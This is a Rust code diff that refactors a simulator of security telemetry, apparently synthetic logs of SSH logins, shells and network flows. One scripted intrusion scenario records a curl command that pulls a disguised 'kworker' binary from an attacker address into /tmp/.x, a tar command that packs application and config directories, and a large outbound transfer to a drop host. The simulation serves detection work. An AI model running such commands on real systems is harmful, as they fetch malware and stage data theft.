@@ -115,7 +115,7 @@ impl Telling {
         }
         self.plan(at, login.report());
         let opened = self.open_session(&contact, host, user, at + 50);
-        let shell = self.process_below(&opened, "/bin/bash", host, user, at + 90);
+        let shell = self.shell(&opened, (host, user), at + 90);
         at += 90;
         for _ in 0..self.random.between(3, 9) {
             at += self.random.between(SECOND, 40 * SECOND);
@@ -133,7 +133,7 @@ impl Telling {
             if self.random.chance(45) {
                 let address = *self.random.pick(&INSIDE);
                 let (bytes_out, port) = (self.random.between(300, 90_000), 443);
-                self.flow(&step, host, (address, port), bytes_out, at + 700);
+                self.flow((&step, host), (address, port), bytes_out, at + 700);
             }
         }
         let end = at + self.random.between(5 * SECOND, 60 * SECOND);
@@ -156,7 +156,7 @@ impl Telling {
             let jitter = self.random.between(0, 900);
             self.plan(at + jitter, process.report());
             if host == "db-1" && (at / MINUTE).is_multiple_of(15) {
-                self.flow(&step, host, (BACKUP, 22), 80_000_000, at + 20 * SECOND);
+                self.flow((&step, host), (BACKUP, 22), 80_000_000, at + 20 * SECOND);
             }
         }
     }
@@ -200,7 +200,7 @@ impl Telling {
         login.outcome = "success";
         self.plan(at, login.report());
         let opened = self.open_session(&contact, VICTIM, user, at + 60);
-        let shell = self.process_below(&opened, "/bin/bash", VICTIM, user, at + 110);
+        let shell = self.shell(&opened, (VICTIM, user), at + 110);
 
         let step = self.process_step(&shell);
         let download = "curl -so /tmp/.x/kworker http://203.0.113.66/k";
@@ -209,7 +209,7 @@ impl Telling {
             ("/usr/bin/curl", download, "/bin/bash"),
             at + 40 * SECOND,
         );
-        self.flow(&step, VICTIM, (ATTACKER, 80), 420, at + 41 * SECOND);
+        self.flow((&step, VICTIM), (ATTACKER, 80), 420, at + 41 * SECOND);
 
         let worker = self.process_step(&shell);
         let image = "/tmp/.x/kworker";
@@ -222,7 +222,7 @@ impl Telling {
         let step = self.process_step(&worker);
         let pack = "tar czf /tmp/.x/s.tgz /srv/app /etc/app";
         self.run(&step, ("/bin/tar", pack, image), at + 3 * MINUTE);
-        self.flow(&worker, VICTIM, (DROP, 443), 48_731_204, at + 6 * MINUTE);
+        self.flow((&worker, VICTIM), (DROP, 443), 48_731_204, at + 6 * MINUTE);
         self.plan(at + 8 * MINUTE, session(&opened, VICTIM, user, false));
         contact.id
     }
@@ -247,20 +247,14 @@ impl Telling {
         step
     }
 
-    fn process_below(
-        &mut self,
-        parent: &Step,
-        image: &str,
-        host: &str,
-        user: &str,
-        at: u64,
-    ) -> Step {
-        let step = self.process_step(parent);
+    /// The shell of a session.
+    fn shell(&mut self, opened: &Step, (host, user): (&str, &str), at: u64) -> Step {
+        let step = self.process_step(opened);
         let process = Process {
             step: &step,
             host,
             user,
-            image,
+            image: "/bin/bash",
             command: "-bash",
             parent_image: "/usr/sbin/sshd",
         };
@@ -268,7 +262,8 @@ impl Telling {
         step
     }
 
-    fn flow(&mut self, process: &Step, host: &str, to: (&str, u16), bytes_out: u64, at: u64) {
+    /// A connection that a process on a host opened, to an address and port.
+    fn flow(&mut self, (process, host): (&Step, &str), to: (&str, u16), bytes_out: u64, at: u64) {
         self.flows += 1;
         let step = process.below(format!("flow-{}", self.flows), "network");
         let flow = Flow {
